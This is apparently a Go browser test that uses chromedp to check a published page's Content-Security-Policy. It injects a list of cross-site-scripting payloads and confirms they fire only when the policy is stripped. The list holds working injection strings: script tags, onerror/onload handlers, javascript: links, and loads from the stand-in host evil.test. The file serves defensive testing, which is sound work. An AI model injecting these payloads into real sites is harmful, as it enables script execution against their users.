package hostile_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// breaches are what somebody would write who had got past every escape. The
// policy of the page is what then remains.
var breaches = []struct{ html, why string }{
	{`<script>hit(%d)</script>`, "a script in the page"},
	{`<img src=x: onerror=hit(%d)>`, "a script in an attribute"},
	{`<svg onload=hit(%d)></svg>`, "a script in a drawing"},
	{`<a id=go href="javascript:hit(%d)">x</a>`, "a script in a link that is followed"},
	{`<iframe src="javascript:parent.hit(%d)"></iframe>`, "a script as a frame"},
	{`<iframe srcdoc="<script>parent.hit(%d)</script>"></iframe>`, "a page in a frame"},
	{`<script src="http://evil.test/%d.js"></script>`, "a script from elsewhere"},
	{`<script type=module src="http://evil.test/%d.js"></script>`, "a module from elsewhere"},
	{`<img src="http://evil.test/%d">`, "an image from elsewhere"},
	{`<link rel=stylesheet href="http://evil.test/%d">`, "a style sheet from elsewhere"},
	{`<link rel=icon href="http://evil.test/%d"><style>@import "http://evil.test/%[1]d";</style>`, "a style sheet that asks for another"},
	{`<p style="background:url(http://evil.test/%d)">x</p>`, "a style in an attribute"},
	{`<iframe src="http://evil.test/%d"></iframe>`, "a frame from elsewhere"},
	{`<object data="http://evil.test/%d"></object>`, "an object from elsewhere"},
	{`<embed src="http://evil.test/%d">`, "a plug-in from elsewhere"},
	{`<video src="http://evil.test/%d"></video>`, "a film from elsewhere"},
	{`<base href="http://evil.test/"><img src="%d">`, "another root for all links"},
	{`<form action="http://evil.test/%d"><button id=go>x</button></form>`, "a form that goes elsewhere"},
	{`<style onload=hit(%d)>b{}</style>`, "a style sheet in the page"},
}

// breached returns a page with a breach at the end of its body, and the same page
// without its policy.
func breached(t *testing.T, index, breach string, n int) (with, without string) {
	t.Helper()
	with = strings.Replace(index, "</main>", fmt.Sprintf(breach, n)+"</main>", 1)
	head, rest, ok := strings.Cut(with, `<meta http-equiv="Content-Security-Policy"`)
	_, tail, closed := strings.Cut(rest, ">")
	if !ok || !closed || !strings.Contains(index, "</main>") {
		t.Fatal("the page has no policy")
	}
	return with, head + tail
}

// TestPolicyHolds puts breaches into a published page: none may run or reach out,
// neither served nor from a folder; without the policy each of them does.
func TestPolicyHolds(t *testing.T) {
	l := newLab(t)
	folder := t.TempDir()
	files := build(t, makeOffice(t, 1, func(int, string) string { return "x" }))
	for name, body := range files {
		l.pages["/"+name] = body
		file := filepath.Join(folder, filepath.FromSlash(name))
		check(t, os.MkdirAll(filepath.Dir(file), 0o755))
		check(t, os.WriteFile(file, body, 0o644))
	}
	roots := []string{l.URL, "file://" + filepath.ToSlash(folder)}
	// Each root and kind of page has numbers of its own.
	number := func(root, kind, n int) int { return 1000*(1+2*root+kind) + n }
	for n, b := range breaches {
		for root := range roots {
			for kind := range 2 {
				with, without := breached(t, string(files["index.html"]), b.html, number(root, kind, n))
				text := []string{with, without}[kind]
				name := fmt.Sprintf("breach-%d.html", number(root, kind, n))
				l.pages["/"+name] = []byte(text)
				check(t, os.WriteFile(filepath.Join(folder, name), []byte(text), 0o644))
			}
		}
	}
	var wait sync.WaitGroup
	for root, address := range roots {
		for kind := range 2 {
			tab := l.tab(t, false, "http", "file", "about:")
			wait.Go(func() {
				for n, b := range breaches {
					number := number(root, kind, n)
					fired, err := l.breach(tab, fmt.Sprintf("%s/breach-%d.html", address, number), number, kind == 1)
					if kind == 1 && !fired || err != nil {
						t.Errorf("%s without policy: %s does not fire: %v", address, b.why, err)
					}
				}
			})
		}
	}
	wait.Wait()
	time.Sleep(300 * time.Millisecond) // for what fires late
	for n, b := range breaches {
		for root, address := range roots {
			if fired := l.waitFor(0, func(fired map[int]bool) bool { return fired[number(root, 0, n)] }); fired {
				t.Errorf("%s with policy: %s fires", address, b.why)
			}
		}
	}
}

// breach loads a page with a breach, follows it, and reports whether it fires:
// within a few seconds when it is expected to, or else at once.
func (l *lab) breach(tab context.Context, address string, number int, expected bool) (fired bool, err error) {
	if err := navigate(tab, address); err != nil {
		return false, err
	}
	tab, cancel := context.WithTimeout(tab, patience)
	defer cancel()
	// A click that leaves the page ends what asked for it.
	_ = chromedp.Do(tab, chromedp.Evaluate[chromedp.Void](`document.getElementById("go")?.click()`))
	long := 50 * time.Millisecond
	if expected {
		long = 5 * time.Second
	}
	return l.waitFor(long, func(fired map[int]bool) bool { return fired[number] }), nil
}
